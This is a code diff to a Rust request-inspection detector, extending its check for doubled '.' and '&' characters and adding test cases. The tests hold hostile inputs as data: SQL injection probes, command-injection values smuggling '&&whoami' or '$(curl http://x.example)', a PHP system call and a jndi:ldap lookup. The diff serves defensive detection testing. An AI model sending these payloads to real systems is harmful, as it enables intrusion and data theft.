@@ -23,7 +23,8 @@ const PLACES_MAX: usize = 512;
 static AUTOMATON: LazyLock<Option<AhoCorasick>> =
     LazyLock::new(|| AhoCorasick::new(SIGNATURES.iter().map(|it| it.text)).ok());
 
-/// Bytes without which nothing in a path, or in a query, is an injection; two dots are one too.
+/// Bytes without which nothing in a path, or in a query, is an injection; two dots, or two ampersands,
+/// are one too.
 const PATH_MARKS: &[u8] = b"%'\"<>();|`${}\\ \t*&\0";
 const QUERY_MARKS: &[u8] = b"%'\"<>();|`${}\\ \t*+/\0";
 static MARKS: [[bool; 256]; 2] = [table(PATH_MARKS), table(QUERY_MARKS)];
@@ -42,9 +43,9 @@ const fn table(marks: &[u8]) -> [bool; 256] {
 fn is_marked(part: &str, marks: &[bool; 256]) -> bool {
     let mut before = 0;
     part.bytes().any(|byte| {
-        let is_up = byte == b'.' && before == b'.';
+        let is_pair = byte == before && matches!(byte, b'.' | b'&');
         before = byte;
-        is_up || marks.get(usize::from(byte)).copied().unwrap_or(false)
+        is_pair || marks.get(usize::from(byte)).copied().unwrap_or(false)
     })
 }
 
@@ -148,6 +149,7 @@ mod tests {
             "/items?id=1+and+extractvalue(1,concat(0x7e,version()))",
             "/items/1'%20or%20'a'%3D'a",
             "/items?id=1+union+select+table_name+from+information_schema.tables",
+            "/items?id=1+or@@version",
         ] {
             check(target, "sql");
         }
@@ -191,6 +193,7 @@ mod tests {
         check("/ping?host=$(curl%20http://x.example)", "command");
         check("/ping?host=`id`", "command");
         check("/ping?host=a%26%26ping%20-c%205%20127.0.0.1", "command");
+        check("/ping?host=a&&whoami", "command");
         check("/index.php?a=<?php%20system('id');?>", "command");
         check("/view?name={{7*7}}", "template");
         check("/view?name=${jndi:ldap://x.example/a}", "template,ssrf");
@@ -244,6 +247,7 @@ mod tests {
             "/files/?C=M;O=D",
             "/wiki/etc/passwd",
             "/a/b--c/d?e=f--g",
+            "/items?set=floor.xp_cmdshell&or=auto_prepend_file",
         ] {
             check(target, "");
         }
@@ -273,8 +277,10 @@ mod tests {
             words in prop::collection::vec((0..SIGNATURES.len(), "[a-z0-9=&_.:#-]{0,6}"), 0..6),
         ) {
             let words = words.iter().flat_map(|(index, more)| [SIGNATURES[*index].text, more]);
-            let text: String = words.flat_map(str::chars).filter(|it| !QUERY_MARKS.contains(&(*it as u8))).collect();
-            let query = text.replace("..", ".");
+            let mut bytes: Vec<u8> = words.flat_map(str::bytes).filter(|it| !QUERY_MARKS.contains(it)).collect();
+            bytes.dedup_by(|one, other| one == other && matches!(one, b'.' | b'&'));
+            let query = String::from_utf8_lossy(&bytes);
+            prop_assert!(!is_marked(&query, &MARKS[1]), "{query}");
             prop_assert!(Folded::default().signs("/a", &query, None).is_empty(), "{query}");
         }
     }
